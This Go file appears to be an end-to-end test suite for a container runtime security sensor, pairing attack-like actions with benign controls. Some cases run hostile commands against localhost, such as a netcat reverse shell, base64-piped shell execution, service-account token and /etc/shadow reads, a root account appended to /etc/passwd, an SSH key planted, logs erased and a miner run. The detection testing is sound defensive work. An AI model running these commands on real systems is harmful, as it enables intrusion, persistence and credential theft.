package e2e

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/harrier-sec/harrier/analytics"
	"github.com/harrier-sec/harrier/api"
	"github.com/harrier-sec/harrier/internal/confval"
	"github.com/harrier-sec/harrier/internal/runctest"
)

// TestDetectionsRealSensor: every node detection that can be produced
// safely here, positive and negative, from real behaviour through the real
// sensor into the analytics engine.
func TestDetectionsRealSensor(t *testing.T) {
	r := startRig(t)
	hugepages, err := os.ReadFile("/proc/sys/vm/nr_hugepages")
	if err != nil {
		t.Fatal(err)
	}
	_, preloadErr := os.Stat("/etc/ld.so.preload")

	const httpd = "httpd -p 127.0.0.1:8080 -h /www && waitport 8080 && "
	tests := []detectionCase{
		{name: "web shell: httpd CGI runs a shell and recon tools", run: func(x *box) {
			x.sh(httpd + "wget -q -O- http://127.0.0.1:8080/cgi-bin/run")
		}, fire: []string{"web-shell"}},
		{name: "static pages from httpd", run: func(x *box) {
			x.sh(httpd + "for i in 1 2 3; do wget -q -O- http://127.0.0.1:8080/index.html; done")
		}, quiet: []string{"web-shell"}},

		{name: "nc -z port range", run: func(x *box) {
			x.sh("nc -z -w 1 127.0.0.1 20-40 || true")
		}, fire: []string{"network-scan"}},
		{name: "connect fan-out over 30 ports", run: func(x *box) {
			x.exec("detecthelper", "fanout", "127.0.0.1", "20000", "30")
		}, fire: []string{"network-scan"}, check: hasEvidence(api.EventKind_EVENT_KIND_CONNECT)},
		{name: "a few connects and one nc", run: func(x *box) {
			x.exec("detecthelper", "fanout", "127.0.0.1", "20000", "4")
			x.sh(httpd + "echo 'GET / HTTP/1.0' | nc -w 1 127.0.0.1 8080 >/dev/null")
		}, quiet: []string{"network-scan"}},

		{name: "cat of the service-account token", run: func(x *box) {
			x.sh("cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null")
		}, fire: []string{"sa-token-access"}, quiet: []string{"k8s-api-from-container"}},
		{name: "cat of the service-account CA and namespace", run: func(x *box) {
			x.sh("cd /var/run/secrets/kubernetes.io/serviceaccount && cat ca.crt namespace >/dev/null")
		}, quiet: []string{"sa-token-access"}},

		{name: "token read then the API server", run: func(x *box) {
			x.sh("httpd -p 127.0.0.1:6443 -h /www && waitport 6443 && " +
				`TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) && ` +
				`wget -q -O- --header "Authorization: Bearer $TOKEN" http://127.0.0.1:6443/index.html`)
		}, fire: []string{"k8s-api-from-container", "sa-token-access"}},
		{name: "port 6443 without the token", run: func(x *box) {
			x.sh("httpd -p 127.0.0.1:6443 -h /www && waitport 6443 && wget -q -O- http://127.0.0.1:6443/index.html")
		}, quiet: []string{"k8s-api-from-container", "sa-token-access"}},

		{name: "metadata address", run: func(x *box) {
			x.addAddress(metadataIP)
			x.sh("httpd -p " + metadataIP + ":80 -h /www && waitport 80 && wget -q -O- http://" + metadataIP + "/index.html")
		}, fire: []string{"cloud-metadata"}},
		{name: "a local web server on port 80", run: func(x *box) {
			x.sh("httpd -p 127.0.0.1:80 -h /www && waitport 80 && wget -q -O- http://127.0.0.1/index.html")
		}, quiet: []string{"cloud-metadata"}},

		{name: "root reads /etc/shadow", run: func(x *box) {
			x.sh("cat /etc/shadow >/dev/null")
		}, fire: []string{"sensitive-files"}},
		{name: "non-root fails to read /etc/shadow", run: func(x *box) {
			if x.shAs(1000, "cat /etc/shadow") == nil {
				x.t.Fatal("uid 1000 could read /etc/shadow")
			}
		}, fire: []string{"sensitive-files"}, check: failedOpen("/etc/shadow")},
		{name: "cat /etc/passwd", run: func(x *box) {
			x.sh("cat /etc/passwd >/dev/null")
		}, quiet: []string{"sensitive-files"}},

		{name: "grep for a secret variable", run: func(x *box) {
			x.sh("grep -r AWS_SECRET_ACCESS_KEY /etc || true")
		}, fire: []string{"secret-recon"}},
		{name: "env piped into grep", run: func(x *box) {
			x.sh("env | grep -i key || true")
		}, fire: []string{"secret-recon"}},
		{name: "grep for a user", run: func(x *box) {
			x.sh("grep root /etc/passwd; env | wc -l")
		}, quiet: []string{"secret-recon"}},

		{name: "non-root fails to reserve huge pages", run: func(x *box) {
			if x.shAs(1000, "/opt/scripts/tune.sh") == nil {
				x.t.Fatal("uid 1000 could write nr_hugepages")
			}
		}, fire: []string{"cpu-optimization"}, check: failedOpen("/proc/sys/vm/nr_hugepages")},
		{name: "read of nr_hugepages", run: func(x *box) {
			x.sh("cat /proc/sys/vm/nr_hugepages")
		}, quiet: []string{"cpu-optimization"}},

		{name: "non-root fails to write the container's ld.so.preload", run: func(x *box) {
			if x.shAs(1000, "/opt/scripts/preload.sh") == nil {
				x.t.Fatal("uid 1000 could write /etc/ld.so.preload")
			}
		}, fire: []string{"ld-preload"}, check: failedOpen("/etc/ld.so.preload")},
		{name: "write of ld.so.conf", run: func(x *box) {
			x.sh("echo /opt/lib > /etc/ld.so.conf")
		}, quiet: []string{"ld-preload"}},

		{name: "miner downloaded then made executable and run", image: map[string]runctest.File{"/srv/dl/xmrig": helperCopy(r)}, run: func(x *box) {
			x.sh("httpd -p 127.0.0.1:8081 -h /srv/dl && waitport 8081 && cd /tmp && " +
				"wget -q http://127.0.0.1:8081/xmrig && chmod +x xmrig && ./xmrig --donate-level 1 -o stratum+tcp://" + poolIP + ":3333")
		}, fire: []string{"miner-download", "download-exec", "drift-binary", "mining"}},
		{name: "a report downloaded and read", run: func(x *box) {
			x.sh("httpd -p 127.0.0.1:8081 -h /srv/dl && waitport 8081 && cd /tmp && wget -q http://127.0.0.1:8081/report.txt && cat report.txt")
		}, quiet: []string{"miner-download", "download-exec", "drift-binary", "mining"}},
		{name: "connect to a mining pool port", run: func(x *box) {
			x.addAddress(poolIP)
			x.sh("httpd -p " + poolIP + ":3333 -h /www && waitport 3333")
			x.exec("detecthelper", "connect", poolIP+":3333")
		}, fire: []string{"mining"}, check: hasEvidence(api.EventKind_EVENT_KIND_CONNECT)},
		{name: "connect to port 8443", run: func(x *box) {
			x.addAddress(poolIP)
			x.sh("httpd -p " + poolIP + ":8443 -h /www && waitport 8443")
			x.exec("detecthelper", "connect", poolIP+":8443")
		}, quiet: []string{"mining"}},

		{name: "nc -e /bin/sh to a listener", run: func(x *box) {
			x.sh("(echo exit | nc -l -p 4444 >/dev/null 2>&1 &) && waitport 4444 && nc 127.0.0.1 4444 -e /bin/sh")
		}, fire: []string{"reverse-shell"}},
		{name: "nc sends a line to a listener", run: func(x *box) {
			x.sh("(nc -l -p 4444 >/dev/null 2>&1 &) && waitport 4444 && echo hello | nc -w 1 127.0.0.1 4444")
		}, quiet: []string{"reverse-shell"}},

		{name: "base64 payload piped into sh", run: func(x *box) {
			x.sh("echo aWQK | base64 -d | sh")
		}, fire: []string{"base64-exec"}},
		{name: "base64 decoded to a file", run: func(x *box) {
			x.sh("echo aWQK | base64 -d > /tmp/decoded && cat /tmp/decoded")
		}, quiet: []string{"base64-exec"}},

		// Debian's busybox-static has no adduser; passwd is a user tool too.
		{name: "passwd run", run: func(x *box) {
			x.sh("passwd -d user >/dev/null 2>&1 || true")
		}, fire: []string{"user-added"}, check: hasEvidence(api.EventKind_EVENT_KIND_EXEC)},
		{name: "a line appended to /etc/passwd", run: func(x *box) {
			x.sh("echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd")
		}, fire: []string{"user-added"}, check: hasEvidence(api.EventKind_EVENT_KIND_FILE_OPEN)},
		{name: "account look-ups", run: func(x *box) {
			x.sh("id user && grep user /etc/passwd && cat /etc/group >/dev/null")
		}, quiet: []string{"user-added"}},

		{name: "shell history and a log deleted", run: func(x *box) {
			x.sh("rm /root/.ash_history /var/log/messages")
		}, fire: []string{"history-cleared"}},
		{name: "history read and a log appended to", run: func(x *box) {
			x.sh("cat /root/.ash_history >/dev/null && echo started >> /var/log/app.log")
		}, quiet: []string{"history-cleared"}},

		{name: "unshare in the container", run: func(x *box) {
			x.sh("unshare -n true || true")
		}, fire: []string{"new-namespace"}},
		{name: "namespaces listed", run: func(x *box) {
			x.sh("ls -l /proc/self/ns >/dev/null && hostname")
		}, quiet: []string{"new-namespace"}},

		{name: "authorized_keys appended to", run: func(x *box) {
			x.sh("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGV2aWw= x' >> /root/.ssh/authorized_keys")
		}, fire: []string{"ssh-keys"}},
		{name: "authorized_keys read", run: func(x *box) {
			x.sh("cat /root/.ssh/authorized_keys >/dev/null")
		}, quiet: []string{"ssh-keys"}},

		{name: "linpeas.sh", run: func(x *box) {
			x.sh("sh /opt/scripts/linpeas.sh && /opt/scripts/linpeas.sh")
		}, fire: []string{"attack-tool"}},
		{name: "healthcheck.sh", run: func(x *box) {
			x.sh("sh /opt/scripts/healthcheck.sh && /opt/scripts/healthcheck.sh")
		}, quiet: []string{"attack-tool"}},

		{name: "exec from a memfd", run: func(x *box) {
			// Under a shell: a process whose parent is the runtime counts
			// as a runtime helper (see the report on runtime_helper).
			x.sh("detecthelper memfd-exec; true")
		}, fire: []string{"fileless", "drift-binary"}},
		{name: "exec of image binaries", run: func(x *box) {
			x.sh("detecthelper connect; ls / >/dev/null")
		}, quiet: []string{"fileless", "drift-binary"}},

		{name: "ptrace attach", run: func(x *box) {
			x.exec("detecthelper", "ptrace-attach")
		}, fire: []string{"ptrace-injection"}},
		{name: "PTRACE_TRACEME of a child", run: func(x *box) {
			x.exec("detecthelper", "ptrace-traceme")
		}, quiet: []string{"ptrace-injection"}},

		{name: "query for the IOC test domain", run: func(x *box) {
			x.exec("detecthelper", "dns", api.IOCTestDomain)
		}, fire: []string{"ioc-domain"}, check: hasEvidence(api.EventKind_EVENT_KIND_DNS_QUERY)},
		{name: "query for another domain", run: func(x *box) {
			x.exec("detecthelper", "dns", "harrier-test.example")
		}, quiet: []string{"ioc-domain"}},
		// Evasions of a sendto hook: the query written to a connected UDP
		// socket (busybox nslookup), and DNS over TCP.
		{name: "nslookup writes a query for the IOC test domain", run: func(x *box) {
			x.sh("timeout 2 nslookup " + api.IOCTestDomain + " 127.0.0.1 >/dev/null 2>&1; true")
		}, fire: []string{"ioc-domain"}, check: dnsEvidence(api.Protocol_PROTOCOL_UDP)},
		{name: "a query over TCP for the IOC test domain", run: func(x *box) {
			x.exec("detecthelper", "dns-tcp", api.IOCTestDomain)
		}, fire: []string{"ioc-domain"}, check: dnsEvidence(api.Protocol_PROTOCOL_TCP)},
		{name: "a query over TCP for another domain", run: func(x *box) {
			x.exec("detecthelper", "dns-tcp", "harrier-test.example")
		}, quiet: []string{"ioc-domain"}},

		{name: "postgres starts a shell", image: map[string]runctest.File{"/usr/local/bin/postgres": helperCopy(r)}, run: func(x *box) {
			x.exec("postgres")
		}, fire: []string{"db-spawns-shell"}},
		{name: "an app server starts a shell", image: map[string]runctest.File{"/usr/local/bin/app-server": helperCopy(r)}, run: func(x *box) {
			x.exec("app-server")
		}, quiet: []string{"db-spawns-shell"}},

		{name: "kubelet kubeconfig read", run: func(x *box) {
			x.sh("cat /var/lib/kubelet/kubeconfig >/dev/null")
		}, fire: []string{"kubelet-kubeconfig"}},
		{name: "kubelet config read", run: func(x *box) {
			x.sh("cat /var/lib/kubelet/config.yaml >/dev/null")
		}, quiet: []string{"kubelet-kubeconfig"}},

		// The container has no CAP_SYS_MODULE and the file is no module:
		// the kernel refuses before reading it, so nothing can load. A
		// kernel without module support has no finit_module to hook (the
		// sensor's status says so), so there the attempt is not seen.
		{name: "insmod attempt", run: func(x *box) {
			x.sh("echo 'not a module' > /tmp/x.ko && (insmod /tmp/x.ko || true)")
		}, fire: ifReported(r, "finit_module", "kernel-module")},
		{name: "lsmod", run: func(x *box) {
			x.sh("lsmod >/dev/null || true")
		}, quiet: []string{"kernel-module"}},

		{name: "test alert marker", run: func(x *box) {
			x.sh("echo HARRIER-TEST-ALERT")
		}, fire: []string{"test-alert"}},
		{name: "plain echo", run: func(x *box) {
			x.sh("echo hello")
		}, quiet: []string{"test-alert"}},
	}
	r.runCases(t, tests)

	// The host kept its own settings and files.
	if now, err := os.ReadFile("/proc/sys/vm/nr_hugepages"); err != nil || string(now) != string(hugepages) {
		t.Errorf("host nr_hugepages changed: %q → %q (%v)", hugepages, now, err)
	}
	if _, err := os.Stat("/etc/ld.so.preload"); (err == nil) != (preloadErr == nil) {
		t.Errorf("host /etc/ld.so.preload changed existence: %v", err)
	}
}

// TestSensorTamperRealSensor: a signal to the sensor's own process from a
// process that is not its supervisor (the test's parent) is tampering; a
// signal to an unrelated process is not.
func TestSensorTamperRealSensor(t *testing.T) {
	r := startRig(t)
	cfg := analytics.Config{}
	byPid := func(pid int) func(*api.Event) bool {
		return func(ev *api.Event) bool { return ev.GetProcess().GetTgid() == uint32(pid) }
	}
	kill := func(target int) int {
		cmd := exec.Command(runctest.BusyboxPath, "kill", "-0", strconv.Itoa(target))
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("kill -0 %d: %v %s", target, err, out)
		}
		return cmd.Process.Pid
	}
	t.Run("kill -0 of the sensor", func(t *testing.T) {
		a := r.waitAlert(t, cfg, byPid(kill(os.Getpid())), "sensor-tamper")
		if s := a.GetEvidence()[0].GetSignal(); s.GetTargetPid() != uint32(os.Getpid()) || s.GetSignal() != 0 {
			t.Errorf("evidence signal = %v, want 0 to %d", s, os.Getpid())
		}
	})
	t.Run("kill -0 of another process", func(t *testing.T) {
		sleeper := exec.Command("sleep", "30")
		if err := sleeper.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = sleeper.Process.Kill(); _ = sleeper.Wait() })
		pid := kill(sleeper.Process.Pid)
		r.settled(t, func(args ...string) {
			if out, err := exec.Command(runctest.BusyboxPath, args...).CombinedOutput(); err != nil {
				t.Fatalf("%v: %v %s", args, err, out)
			}
		})
		if ids := detectionIDs(r.alerts(t, cfg, byPid(pid))); slices.Contains(ids, "sensor-tamper") {
			t.Errorf("unexpected sensor-tamper (alerts %v)", ids)
		}
	})
}

// TestBaselineDetectionsRealSensor: with a short learning period, a
// container that keeps doing what it did while learning raises nothing,
// and a new executable or a new kind of destination afterwards raises
// anomalous-process or anomalous-egress.
func TestBaselineDetectionsRealSensor(t *testing.T) {
	r := startRig(t)
	const learning = 2 * time.Second
	cfg := analytics.Config{RateLimitPerMinute: 1000, Baseline: analytics.BaselineConfig{LearningPeriod: confval.Duration(learning)}}
	x := r.newBox(t, map[string]runctest.File{"/usr/local/bin/app-server": helperCopy(r)})
	routine := func() {
		x.sh("httpd -p 127.0.0.1:8080 -h /www 2>/dev/null; waitport 8080 && wget -q -O- http://127.0.0.1:8080/healthz && date")
		x.exec("detecthelper", "connect", "127.0.0.1:8080")
	}
	routine()
	x.settle()
	first := r.snapshot(x.scope)[0].GetTime().AsTime()
	// Not synchronisation: the learning period has to pass on the clock.
	time.Sleep(time.Until(first.Add(learning + 200*time.Millisecond)))

	t.Run("the learned routine", func(t *testing.T) {
		routine()
		x.sh("uname -a; ls /") // busybox applets: the same executable
		x.settle()
		ids := detectionIDs(r.alerts(t, cfg, x.scope))
		for _, id := range []string{"anomalous-process", "anomalous-egress"} {
			if slices.Contains(ids, id) {
				t.Errorf("unexpected %s after learning (alerts %v)", id, ids)
			}
		}
	})
	t.Run("a new executable", func(t *testing.T) {
		x.exec("app-server")
		a := r.waitAlert(t, cfg, x.scope, "anomalous-process")
		if exe := a.GetProcess().GetExe(); exe != "/usr/local/bin/app-server" {
			t.Errorf("anomalous-process for %q, want /usr/local/bin/app-server", exe)
		}
	})
	t.Run("a new destination port", func(t *testing.T) {
		x.exec("detecthelper", "connect", "127.0.0.1:9090") // refused: the attempt counts
		a := r.waitAlert(t, cfg, x.scope, "anomalous-egress")
		if dst := a.GetEvidence()[0].GetConnect().GetDestination(); dst.GetPort() != 9090 {
			t.Errorf("anomalous-egress for %v, want port 9090", dst)
		}
	})
}

// TestBenignCorpusRealSensor: everyday workloads raise no alert at all.
// Every false positive found is fixed in the rules and kept here.
func TestBenignCorpusRealSensor(t *testing.T) {
	r := startRig(t)
	var scopes []func(*api.Event) bool
	workload := func(name string, run func(x *box)) {
		t.Run(name, func(t *testing.T) {
			x := r.newBox(t, nil)
			run(x)
			x.settle()
			// The container goes with the subtest; its events stay.
			scopes = append(scopes, x.scope)
		})
	}
	workload("web server serving static pages", func(x *box) {
		x.sh("httpd -p 127.0.0.1:8080 -h /www && waitport 8080 && " +
			"for i in $(seq 30); do wget -q -O /dev/null http://127.0.0.1:8080/index.html; done")
	})
	workload("health checks", func(x *box) {
		x.sh("httpd -p 127.0.0.1:8080 -h /www && waitport 8080 && " +
			"for i in $(seq 10); do wget -q -O- http://127.0.0.1:8080/healthz >/dev/null; done")
	})
	workload("cron-like job", func(x *box) {
		x.sh("for i in 1 2 3 4 5; do date >> /var/log/cron.log; usleep 50000; done; tail -n 2 /var/log/cron.log")
	})
	workload("operator shell session", func(x *box) {
		x.sh("ls -la / >/dev/null; ps; cat /etc/hostname; id; uname -a; hostname; " +
			"grep root /etc/passwd; grep -c user /etc/group; cat /proc/sys/vm/nr_hugepages; " +
			"netstat -ltn; env | wc -l; tail -n 5 /var/log/messages; find /etc -name '*.conf'; " +
			"cat /root/.ash_history >/dev/null; echo done")
	})
	workload("package extraction", func(x *box) {
		x.sh("mkdir -p /opt/app && cd /opt/app && tar -cf /tmp/app.tar -C /www . && tar -xf /tmp/app.tar && ls /opt/app >/dev/null")
	})
	t.Run("go build on the host", func(t *testing.T) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte("package main\n\nfunc main() { println(\"hi\") }\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.com/hi\n\ngo 1.22\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command("go", "build", "-o", filepath.Join(dir, "hi"), ".")
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("go build: %v %s", err, out)
		}
		run := exec.Command(filepath.Join(dir, "hi"))
		if out, err := run.CombinedOutput(); err != nil {
			t.Fatalf("run: %v %s", err, out)
		}
		r.settled(t, func(args ...string) {
			if out, err := exec.Command(runctest.BusyboxPath, args...).CombinedOutput(); err != nil {
				t.Fatalf("%v: %v %s", args, err, out)
			}
		})
		scope := underPIDs(uint32(cmd.Process.Pid), uint32(run.Process.Pid))
		if n := len(r.snapshot(scope)); n < 3 {
			t.Fatalf("only %d events from go build", n)
		}
		scopes = append(scopes, scope)
	})

	all := func(ev *api.Event) bool {
		for _, s := range scopes {
			if s(ev) {
				return true
			}
		}
		return false
	}
	if len(scopes) != 6 {
		t.Fatalf("%d of 6 workloads ran", len(scopes))
	}
	events := r.snapshot(all)
	for _, a := range r.alerts(t, analytics.Config{}, all) {
		t.Errorf("benign workload raised %s: %s (process %v, container %s)", a.GetDetectionId(), a.GetSummary(),
			a.GetProcess().GetArgs(), a.GetContainer().GetId())
	}
	t.Logf("%d events from %d benign workloads", len(events), len(scopes))
}

// ifReported is ids when the sensor reports syscall on this kernel, else
// none.
func ifReported(r *rig, syscall string, ids ...string) []string {
	if slices.Contains(r.syscalls, syscall) {
		return ids
	}
	return nil
}

// runCases runs each case in a container of its own: every detection in
// fire must alert for that container, none in quiet may.
func (r *rig) runCases(t *testing.T, tests []detectionCase) {
	t.Helper()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			x := r.newBoxOpts(t, runctest.Options{Image: tc.image, Privileged: tc.privileged})
			tc.run(x)
			cfg := analytics.Config{RateLimitPerMinute: 1000}
			for i, id := range tc.fire {
				a := r.waitAlert(t, cfg, x.scope, id)
				if a.GetContainer().GetId() != x.ctr.ID {
					t.Errorf("%s alert for container %q, want %s", id, a.GetContainer().GetId(), x.ctr.ID)
				}
				if i == 0 && tc.check != nil {
					tc.check(t, a)
				}
			}
			if len(tc.quiet) > 0 {
				x.settle()
				ids := detectionIDs(r.alerts(t, cfg, x.scope))
				for _, id := range tc.quiet {
					if !slices.Contains(ids, id) {
						continue
					}
					t.Errorf("unexpected %s alert (alerts: %v)", id, ids)
				}
			}
		})
	}
}
